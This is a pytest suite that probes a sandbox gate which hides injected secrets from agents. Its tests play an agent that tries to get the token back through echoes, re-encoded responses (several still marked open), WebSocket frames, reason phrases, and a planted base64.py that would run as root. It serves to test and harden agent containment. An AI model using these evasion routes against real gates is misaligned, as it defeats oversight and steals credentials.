"""Escape suite, secrets the gate injects (issue 20): the agent holds a placeholder, never the
value, and the placeholder goes nowhere but where a rule injects it. Each case is an agent
trying to read the value back or to carry the placeholder past the gate's screen, on plain
http (the gate sees the whole exchange) against the fake internet; both modes."""

from __future__ import annotations

import base64
import glob
import json
import os
import shutil
import subprocess
import tempfile
import time
from pathlib import Path

import pytest

from conftest import AGENT_UID, ROOT, gatewrap_cmd
from gatewrap.sandbox.registry import RUNS_DIR

pytestmark = pytest.mark.kernel

VALUE = "ghp_ESCAPEVALUE0123456789abcdefXYZ"

POLICY = """
[[secret]]
name = "github"
from_env = "GW_TEST_SECRET"
placeholder_env = "GITHUB_TOKEN"

[[rule]]
host = "allowed.test"
schemes = ["http"]
action = "allow"
inject = { secret = "github", as = "bearer" }

[[rule]]
host = "other.allowed.test"
schemes = ["http"]
action = "allow"
"""

# The agent: each request (url, method, headers, body; "PH" replaced by the placeholder), its
# status and response body printed as one JSON line.
AGENT = """
import json, os, sys, urllib.request, urllib.error
ph = os.environ["GITHUB_TOKEN"]
for url, method, headers, body in json.loads(sys.argv[1]):
    data = None if body is None else body.replace("PH", ph).encode()
    req = urllib.request.Request(url.replace("PH", ph), data=data, method=method,
                                 headers={k: v.replace("PH", ph) for k, v in headers.items()})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            print(json.dumps({"status": r.status, "body": r.read().decode(errors="replace")}))
    except urllib.error.HTTPError as e:
        print(json.dumps({"status": e.code, "body": e.read().decode(errors="replace")}))
"""


def run_agent(gatewrap, tmp_path, requests):
    policy = tmp_path / "policy.toml"
    policy.write_text(POLICY)
    r = gatewrap(["/usr/bin/python3", "-c", AGENT, json.dumps(requests)], extra=["--policy", str(policy)],
                 unnamed={"GW_TEST_SECRET": VALUE})
    return r, [json.loads(x) for x in r.stdout.splitlines() if x.startswith("{")]


def test_an_injected_host_that_echoes_the_request_hands_the_agent_the_value(gatewrap, tmp_path, outcome):
    """The rule injects into every request to its host; the host's /echo sends the request's
    headers back: the agent reads the real token in the response."""
    r, lines = run_agent(gatewrap, tmp_path, [["http://allowed.test/echo", "GET", {"Authorization": "Bearer PH"}, None]])
    assert r.returncode == 0, r.stderr
    (got,) = lines
    assert got["status"] == 200, got
    leaked = VALUE in got["body"]
    (rec,) = [x for x in r.records(event="request") if x.get("secret")]
    outcome("gate: responses masked (gate/secrets/mask.rs)", "the value came back in the response body" if leaked
            else f"the value masked ({'*' * 8}...), the record's redacted: {rec.get('redacted')}", "OPEN" if leaked else "held")
    assert not leaked, "the agent read the secret's value in the echoed response"
    assert "*" * len(VALUE) in got["body"] and rec.get("redacted", 0) >= 1, (got, rec)


def test_the_placeholder_in_a_request_body_to_another_allowed_host_is_refused(gatewrap, tmp_path, outcome):
    """The placeholder in a POST body to an allowed host that no rule injects for."""
    r, lines = run_agent(gatewrap, tmp_path, [["http://other.allowed.test/echo", "POST",
                                               {"Content-Type": "text/plain"}, "token=PH"]])
    assert r.returncode == 0, r.stderr
    (got,) = lines
    recs = [x for x in r.records(event="request") if x.get("secret")]
    outcome("gate (request bodies are screened)", f"status {got['status']}, a secret_misuse record: {bool(recs)}",
            "held" if got["status"] == 403 else "OPEN")
    assert got["status"] == 403 and recs and recs[0]["reason"].startswith("secret_misuse"), (got, recs)



def test_the_value_from_gatewraps_environment_is_not_written_to_what_a_daemon_keeps_of_the_run(tmp_path, outcome):
    """``from_env``: the value is in gatewrap's environment; a shared run's client sends that
    environment to the daemon, which keeps the run's options on disk (/run/gatewrap/runs) to
    take the run back after a restart. The value must not be written there (issue 20: the
    value is never written anywhere). A run of its own keeps nothing there: it holds."""
    policy = tmp_path / "policy.toml"
    policy.write_text(POLICY)
    shown = Path(tempfile.mkdtemp(prefix="gwt-secret-keep-"))
    shown.chmod(0o755)
    audit, go = tmp_path / "audit.jsonl", shown / "go"
    cmd = gatewrap_cmd("run", "--audit-log", str(audit), "--policy", str(policy), "--workdir", "/tmp",
                       "--ro-bind", str(shown), "--", "/bin/sh", "-c", f"while [ ! -e {go} ]; do sleep 0.05; done")
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT,
                            env={**os.environ, "GW_TEST_SECRET": VALUE, "SUDO_UID": str(AGENT_UID),
                                 "SUDO_GID": str(AGENT_UID)})
    try:
        end = time.monotonic() + 60
        while not (audit.exists() and "run_start" in audit.read_text()):
            assert time.monotonic() < end and proc.poll() is None, proc.communicate()
            time.sleep(0.05)
        found = [p for p in glob.glob(f"{RUNS_DIR}/*.json") if VALUE in Path(p).read_text(errors="replace")]
    finally:
        go.touch()
        out, err = proc.communicate(timeout=60)
        shutil.rmtree(shown, ignore_errors=True)
    assert proc.returncode == 0, err
    outcome("daemon's saved run", "the value was in the run's saved options" if found else "the saved options hold no value",
            "OPEN" if found else "held")
    assert not found, f"{found} hold the secret's value (the client's environment)"


def test_a_from_command_secret_runs_nothing_the_agent_left_in_its_working_directory(tmp_path, outcome):
    """``from_command`` runs as root on the host at every run's start (and at a reload). Run
    in the run's working directory, the agent's, ``python3 -m MODULE`` (a keyring, a token
    helper) imports MODULE from that directory first (sys.path[0], python(1) ``-m``): a
    ``base64.py`` the agent left there runs as root at the user's next run."""
    top = Path(tempfile.mkdtemp(prefix="gwt-secret-cmd-"))
    top.chmod(0o755)
    try:
        work, marker, token = top / "w", top / "ran-as-root", top / "token.b64"
        work.mkdir()
        subprocess.run(["chown", f"{AGENT_UID}:{AGENT_UID}", str(work)], check=True)
        token.write_text(base64.b64encode(VALUE.encode()).decode() + "\n")
        token.chmod(0o600)
        policy = tmp_path / "policy.toml"
        policy.write_text(POLICY.replace('from_env = "GW_TEST_SECRET"',
                                         f'from_command = ["/usr/bin/python3", "-m", "base64", "-d", "{token}"]'))
        plant = f"import os\nos.system('touch {marker}')\n"
        runs = []
        for script in (f"printf '%s' \"{plant}\" > base64.py", "true"):  # the run that plants, the user's next
            cmd = gatewrap_cmd("run", "--audit-log", str(tmp_path / "audit.jsonl"), "--policy", str(policy),
                               "--workdir", str(work), "--", "/bin/sh", "-c", script)
            runs.append(subprocess.run(cmd, capture_output=True, text=True, timeout=60, cwd=ROOT,
                                       env={**os.environ, "SUDO_UID": str(AGENT_UID), "SUDO_GID": str(AGENT_UID)}))
        assert runs[0].returncode == 0, runs[0].stderr
        assert (work / "base64.py").exists(), "the agent could not plant its module: the vector is not tried"
        ran = marker.exists()
        outcome("secrets (from_command)", "the planted module ran as root at the next run's start" if ran
                else "the next run's from_command ran nothing of the working directory", "OPEN" if ran else "held")
        assert not ran, "a module the agent planted ran as root when the next run resolved its secret"
        assert runs[1].returncode == 0, runs[1].stderr
    finally:
        shutil.rmtree(top, ignore_errors=True)


def _mime_lines(value: str) -> bytes:
    """The value's base64 in a MIME body (RFC 2045 §6.8: lines of 76), placed so that a line
    break falls inside the value's encoding (45 bytes before it, 57 bytes a line)."""
    return base64.encodebytes(b"m" * 45 + value.encode())


def _gzip(value: str) -> bytes:
    import gzip
    return gzip.compress(b"token: " + value.encode() + b"\n", mtime=0)


# (form, the bytes an upstream sends, how the agent gets the value back from the body)
FORMS = [
    ("as sent, upper case", VALUE.upper().encode(), lambda b: VALUE.upper().encode() in b),
    ("base64 in MIME lines of 76", _mime_lines(VALUE),
     lambda b: VALUE.encode() in base64.decodebytes(b.replace(b"*", b"A"))),
    ("gzip (a body compressed though identity was asked)", _gzip(VALUE),
     lambda b: VALUE.encode() in __import__("gzip").decompress(b)),
    ("split in two halves", (VALUE[:17] + "\n" + VALUE[17:]).encode(), lambda b: VALUE.encode() in b.replace(b"\n", b"")),
    ("every byte percent-encoded", "".join(f"%{c:02X}" for c in VALUE.encode()).encode(),
     lambda b: VALUE.encode() in bytes.fromhex(b.decode().replace("%", ""))),
    ("JSON with every character \\u-escaped", ('"' + "".join(f"\\u{ord(c):04x}" for c in VALUE) + '"').encode(),
     lambda b: VALUE in json.loads(b)),
]

# The agent: GET each URL, the status and the body's hex printed as one JSON line.
RAW_AGENT = """
import json, sys, urllib.request
for url in json.loads(sys.argv[1]):
    with urllib.request.urlopen(urllib.request.Request(url, headers={"Accept-Encoding": "identity"}), timeout=10) as r:
        print(json.dumps({"status": r.status, "hex": r.read().hex()}))
"""

OPEN_FORMS = {"base64 in MIME lines of 76", "gzip (a body compressed though identity was asked)", "split in two halves",
              "every byte percent-encoded", "JSON with every character \\u-escaped"}


@pytest.mark.parametrize("form,sent,recover", [
    pytest.param(f, s, r, id=f, marks=[pytest.mark.xfail(strict=True, reason=(
        "open: the response mask (gate/secrets/mask.rs) matches the value whole in a few fixed forms; "
        "an upstream that sends it in another (line-broken base64, compressed, split, fully escaped) "
        "hands it to the agent"))] if f in OPEN_FORMS else [])
    for f, s, r in FORMS])
def test_a_response_with_the_value_in_another_form_is_masked(gatewrap, net, tmp_path, outcome, form, sent, recover):
    """An upstream the run reaches sends the value back in a form other than those the mask
    looks for (an echo or a store of the injected request, fetched from any allowed host: every
    response of the run is masked). Here a static file of other.allowed.test holds it."""
    site = Path(net.sites_dir) / "other.allowed.test"
    site.mkdir()
    try:
        (site / "leak.bin").write_bytes(sent)
        policy = tmp_path / "policy.toml"
        policy.write_text(POLICY)
        r = gatewrap(["/usr/bin/python3", "-c", RAW_AGENT, json.dumps(["http://other.allowed.test/leak.bin"])],
                     extra=["--policy", str(policy)], unnamed={"GW_TEST_SECRET": VALUE})
    finally:
        shutil.rmtree(site)
    assert r.returncode == 0, r.stderr
    (got,) = [json.loads(x) for x in r.stdout.splitlines() if x.startswith("{")]
    body = bytes.fromhex(got["hex"])
    try:
        leaked = recover(body)
    except Exception:  # noqa: BLE001 - a body masked into something undecodable: not read back
        leaked = False
    outcome("gate: responses masked (gate/secrets/mask.rs)",
            f"{form}: the agent decoded the value" if leaked else f"{form}: masked ({body.count(b'*')} '*')",
            "OPEN" if leaked else "held")
    assert not leaked, f"{form}: the agent read the value from {body[:120]!r}"


SHORT = "hunter2pass"  # 11 characters: a password, not a 40-character token

BASIC_AGENT = """
import base64, json, os, urllib.request
auth = base64.b64encode(("bot:" + os.environ["GITHUB_TOKEN"]).encode()).decode()
req = urllib.request.Request("http://allowed.test/echo", headers={"Authorization": "Basic " + auth})
with urllib.request.urlopen(req, timeout=10) as r:
    doc = json.loads(r.read())
sent = {k.lower(): v for k, v in doc["headers"].items()}.get("authorization") or "-"
print(json.dumps({"echoed": sent,
                  "decoded": base64.b64decode(sent.split()[-1] + "==").decode(errors="replace")}))
"""


def test_a_short_password_injected_as_basic_and_echoed_is_masked(gatewrap, tmp_path, outcome):
    """``as = "basic"`` puts ``base64(user:VALUE)`` upstream; an echo sends that header back.
    The value's own bytes are masked wherever they are; its base64 was only from 16 characters
    (MIN_PLACEHOLDER), so an 11-character password came back readable."""
    policy = tmp_path / "policy.toml"
    policy.write_text(POLICY.replace('as = "bearer"', 'as = "basic"'))
    r = gatewrap(["/usr/bin/python3", "-c", BASIC_AGENT], extra=["--policy", str(policy)], unnamed={"GW_TEST_SECRET": SHORT})
    assert r.returncode == 0, r.stderr
    (got,) = [json.loads(x) for x in r.stdout.splitlines() if x.startswith("{")]
    leaked = SHORT in got["decoded"]
    outcome("gate: responses masked (gate/secrets/mask.rs)",
            f"the echoed Basic credentials decoded to {'the value' if leaked else repr(got['decoded'])}", "OPEN" if leaked else "held")
    assert not leaked, f"the agent decoded the value from the echoed {got['echoed']!r}"
    assert got["echoed"].startswith("Basic "), got


WS_AGENT = """
import base64, json, os, socket
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
key = base64.b64encode(os.urandom(16)).decode()
s.sendall((f"GET http://allowed.test:8080/headers HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\nUpgrade: websocket\\r\\n"
           f"Connection: Upgrade\\r\\nSec-WebSocket-Key: {key}\\r\\nSec-WebSocket-Version: 13\\r\\n"
           f"Authorization: Bearer {os.environ['GITHUB_TOKEN']}\\r\\n\\r\\n").encode())
got = b""
while got.count(b"}") < 1:
    c = s.recv(65536)
    if not c:
        break
    got += c
print(json.dumps({"raw": got.decode(errors="replace")}))
"""


def _websocket_agent(gatewrap, tmp_path, agent: str) -> dict:
    """What ``agent`` (one of the WebSocket agents above) printed, run with the rule that
    injects the secret into allowed.test on ports 80 and 8080 (the fake internet's WebSocket
    server)."""
    policy = tmp_path / "policy.toml"
    policy.write_text(POLICY.replace('host = "allowed.test"\nschemes = ["http"]',
                                     'host = "allowed.test"\nschemes = ["http"]\nports = [80, 8080]'))
    r = gatewrap(["/usr/bin/python3", "-c", agent], extra=["--policy", str(policy)], unnamed={"GW_TEST_SECRET": VALUE})
    assert r.returncode == 0, r.stderr
    (got,) = [json.loads(x) for x in r.stdout.splitlines() if x.startswith("{")]
    return got


def test_a_websocket_to_an_injected_host_that_echoes_the_handshake_is_masked(gatewrap, tmp_path, outcome):
    """The rule injects into the WebSocket's opening handshake (a GET); the server's first
    message is that handshake's headers: the value in a frame the gate relays unread."""
    got = _websocket_agent(gatewrap, tmp_path, WS_AGENT)
    assert " 101 " in got["raw"].split("\r\n")[0], got
    leaked = VALUE in got["raw"]
    outcome("gate: WebSocket relayed after 101 (upgrade.rs)",
            "the value in the server's first message" if leaked else "masked", "OPEN" if leaked else "held")
    assert not leaked, got["raw"]


WS_FRAGMENTS_AGENT = """
import base64, json, os, socket, struct
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
key = base64.b64encode(os.urandom(16)).decode()
s.sendall((f"GET http://allowed.test:8080/headers-fragmented HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\n"
           f"Upgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: {key}\\r\\n"
           f"Sec-WebSocket-Version: 13\\r\\nAuthorization: Bearer {os.environ['GITHUB_TOKEN']}\\r\\n\\r\\n").encode())
f = s.makefile("rb")
status = f.readline().decode(errors="replace")
while f.readline() not in (b"\\r\\n", b""):
    pass
message = b""
while True:  # RFC 6455 5.4: a message is its fragments' payloads, in order
    b0, b1 = f.read(2)
    n = b1 & 0x7F
    if n == 126:
        n = struct.unpack("!H", f.read(2))[0]
    message += f.read(n)
    if b0 & 0x80:
        break
print(json.dumps({"status": status, "message": message.decode(errors="replace")}))
"""


def test_a_websocket_message_the_upstream_fragments_is_masked_across_its_fragments(gatewrap, tmp_path, outcome):
    """The server echoes the injected handshake as one text message in 8-byte fragments (RFC
    6455 §5.4; servers fragment long messages): no fragment holds the whole value, so the
    gate carries a fragment's end that may begin one into the next (secrets/ws.rs)."""
    got = _websocket_agent(gatewrap, tmp_path, WS_FRAGMENTS_AGENT)
    assert " 101 " in got["status"], got
    leaked = VALUE in got["message"]
    outcome("gate: WebSocket relayed after 101 (secrets/ws.rs)",
            "the value in the server's fragmented message" if leaked else "masked", "OPEN" if leaked else "held")
    assert not leaked, got["message"]


REASON_AGENT = """
import json, os, socket
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(f"GET http://allowed.test/reason HTTP/1.1\\r\\nHost: allowed.test\\r\\nAuthorization: Bearer {os.environ['GITHUB_TOKEN']}\\r\\nConnection: close\\r\\n\\r\\n".encode())
got = b""
while b"\\r\\n\\r\\n" not in got:
    c = s.recv(65536)
    if not c:
        break
    got += c
print(json.dumps({"status_line": got.split(b"\\r\\n")[0].decode(errors="replace")}))
"""


def test_a_reason_phrase_that_quotes_the_injected_header_is_masked(gatewrap, tmp_path, outcome):
    """The status line's reason phrase (RFC 9112 §4) is text the server chooses: an error that
    quotes the request's Authorization there. hyper keeps a reason that is not the standard
    one (hyper::ext::ReasonPhrase) and writes it to the agent: it was not masked."""
    policy = tmp_path / "policy.toml"
    policy.write_text(POLICY)
    r = gatewrap(["/usr/bin/python3", "-c", REASON_AGENT], extra=["--policy", str(policy)], unnamed={"GW_TEST_SECRET": VALUE})
    assert r.returncode == 0, r.stderr
    (got,) = [json.loads(x) for x in r.stdout.splitlines() if x.startswith("{")]
    assert got["status_line"].startswith("HTTP/1.1 400"), got
    leaked = VALUE in got["status_line"]
    outcome("gate: responses masked (gate/secrets/mask.rs)", "the value in the status line's reason phrase" if leaked
            else f"status line {got['status_line']!r}", "OPEN" if leaked else "held")
    assert not leaked, got
